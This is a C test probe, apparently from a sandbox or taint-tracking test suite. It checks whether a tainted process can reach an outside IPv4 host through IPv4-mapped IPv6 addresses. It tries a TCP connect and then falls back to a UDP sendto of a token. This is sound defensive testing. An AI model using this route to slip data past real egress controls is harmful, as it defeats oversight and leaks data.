/* ipv4_mapped.c - attack: a tainted process reaches an IPv4 third party through an AF_INET6 socket (::ffff:a.b.c.d), TCP and UDP. */
#include "attack.h"

#define ROUTE "ipv4_mapped"

int main(int argc, char **argv)
{
	struct sockaddr_storage ss;
	socklen_t len;
	const char *step;
	char tok[128];
	size_t n;
	int err, fd;

	if (argc != 3) {
		fprintf(stderr, "usage: " ROUTE " CAMERA [::ffff:A.B.C.D]:PORT\n");
		return 2;
	}
	at_taint(ROUTE, argv[1]);
	at_need_inet(ROUTE, argv[2], &ss, &len);
	/* TCP goes through connect6; a mapped UDP sendto is handed to the IPv4 path: try both. */
	err = at_connect_send(ROUTE, &ss, len, SOCK_STREAM, &step);
	if (err == 0) {
		at_result(ROUTE, "through", "tcp6 connect and send: ok");
		return 0;
	}
	if (err != EPERM)
		return at_report_errno(ROUTE, step, err);
	n = at_token(tok, sizeof(tok), ROUTE);
	fd = socket(AF_INET6, SOCK_DGRAM | SOCK_CLOEXEC, 0);
	if (fd < 0)
		return at_report_errno(ROUTE, "socket", errno);
	if (sendto(fd, tok, n, 0, (struct sockaddr *)&ss, len) != (ssize_t)n) {
		err = errno;
		if (err == EPERM)
			at_result(ROUTE, "blocked", "tcp6 connect: EPERM, udp6 sendto: EPERM");
		else
			at_report_errno(ROUTE, "udp6 sendto", err);
		return 0;
	}
	at_result(ROUTE, "through", "tcp6 connect: EPERM but udp6 sendto: %zu bytes", n);
	return 0;
}
